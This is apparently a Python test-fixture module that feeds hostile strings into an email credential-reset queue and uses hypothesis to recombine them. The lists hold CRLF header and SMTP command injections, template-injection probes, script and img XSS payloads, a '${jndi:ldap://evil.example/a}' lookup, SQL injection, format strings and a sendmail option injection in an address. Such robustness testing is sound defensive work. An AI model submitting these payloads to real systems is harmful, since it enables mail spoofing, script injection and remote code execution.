"""What somebody may put into a queue who means harm: the listed things, and what hypothesis makes of them."""

from collections.abc import Sequence
from dataclasses import dataclass

from hypothesis import HealthCheck, Phase, given, seed, settings
from hypothesis import strategies as st

from tests.faults.rig import INTENT, NAME

NAMES: Sequence[str] = (
    "\r",
    "\n",
    "\r\n",
    "\0",
    "\x0b\x0c\x1b[2J\x07\x7f",
    "\u2028",
    "\u2029",
    "\x85",
    "\u202e\u202d\u2066 right to left \u2069\u200f",
    "\ufeff\u200b\u00ad",
    "\ud800",
    "\udfff\ud800",
    "\U0010ffff\ue000",
    "Bcc: everybody@example.com",
    "\r\nBcc: everybody@example.com",
    "\nSubject: another one\n\nanother body",
    "\r\n\r\n<html>",
    "=?UTF-8?Q?=0A?=",
    "=?utf-8?b?DQpCY2M6IGV2ZUBleGFtcGxlLmNvbQ==?=",
    "=?=?utf-8?q?x?=UTF-8?Q?=0A?=",
    "=0D=0ABcc: eve@example.com",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ self._TemplateReference__context }}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</p></body></html>",
    "..leading dots",
    ".\r\n.",
    "\r\n.\r\nMAIL FROM:<eve@example.com>\r\n",
    "\n.\n",
    "\r.\r",
    "https://evil.example/?token=1",
    "x" * 10_240,
    "é" * 10_240,
    "\u0301" * 2_000,
    "--=_boundary--",
    "From eve@example.com",
    "${jndi:ldap://evil.example/a}",
    "%s%n%d",
    "'; DROP TABLE delivery; --",
)
ADDRESSES: Sequence[str] = (
    "ellie@example.com\r\n",
    "ellie@example.com\r\nRCPT TO:<eve@example.com>",
    "ellie@example.com\nBcc: eve@example.com",
    "ellie\0@example.com",
    "ellie@exam\u2028ple.com",
    "ellie\x85@example.com",
    "<ellie@example.com>",
    "ellie@example.com> SIZE=1 <eve@example.com",
    "ellie@example.com, eve@example.com",
    "Ellie <ellie@example.com>",
    '"ellie\r\n"@example.com',
    '"a b"@example.com',
    "ellie@[127.0.0.1]",
    "ellie(comment)@example.com",
    "=?utf-8?q?ellie?=@example.com",
    "\u202eellie@example.com",
    "éllie@example.com",
    "ellie@exämple.com",
    "ellie@\ud800.com",
    "a" * 65 + "@example.com",
    "a@" + "b" * 64 + ".com",
    "a@" + "b." * 130 + "com",
    "ellie",
    "@example.com",
    "ellie@",
    "ellie@@example.com",
    ".ellie@example.com",
    "ellie..x@example.com",
    "-oQ/tmp@example.com",
    "{{7*7}}@example.com",
    "ellie@example.com.",
    " ellie@example.com",
    "x" * 10_240,
)
INTENTS: Sequence[str] = (
    "a b",
    "a\r\nb",
    "a\0b",
    '"><script>',
    "{{7*7}}",
    "é",
    "",
    "../..",
    "x" * 257,
    "?token=2&",
    "%0d%0a",
)


@dataclass(frozen=True)
class Hostile:
    """One entry of the queue; `intent` is None for a test message."""

    name: str = ""
    address: str = "ellie@example.com"
    intent: str | None = None

    def template(self, expires: int) -> dict[str, dict[str, object]]:
        """Return the entry's template; name and intent begin with what the campaign looks for in logs."""
        name = NAME + self.name
        if self.intent is None:
            return {"TestMessageV1": {"display_name": name}}
        reset = {"display_name": name, "intent_id": INTENT + self.intent, "expiry_time": expires}
        return {"CredentialResetV1": reset}


def listed() -> list[Hostile]:
    """Return the listed ones."""
    return [
        *(Hostile(name=name, intent=intent) for name in NAMES for intent in (None, "x")),
        *(Hostile(address=address) for address in ADDRESSES),
        *(Hostile(intent=intent) for intent in INTENTS),
    ]


def examples(of: int, count: int) -> Sequence[Hostile]:
    """Return so many that hypothesis makes of a seed: pieces of the listed ones put together, and any text at all."""
    found: list[Hostile] = []

    @seed(of)
    @settings(
        max_examples=count,
        phases=[Phase.generate],
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(_entries())
    def collect(entry: Hostile) -> None:
        found.append(entry)

    collect()
    return found


def _entries() -> st.SearchStrategy[Hostile]:
    anything = st.text(st.characters(exclude_categories=()), max_size=60)

    def made_of(pieces: Sequence[str]) -> st.SearchStrategy[str]:
        short = [piece for piece in pieces if len(piece) < 300]
        return st.lists(st.one_of(st.sampled_from(short), anything), min_size=1, max_size=4).map("".join)

    addresses = st.one_of(
        st.just("ellie@example.com"),
        made_of(ADDRESSES),
        st.builds("{}@{}".format, anything, made_of(["example.com"])),
    )
    return st.builds(Hostile, made_of(NAMES), addresses, st.one_of(st.none(), made_of(INTENTS)))
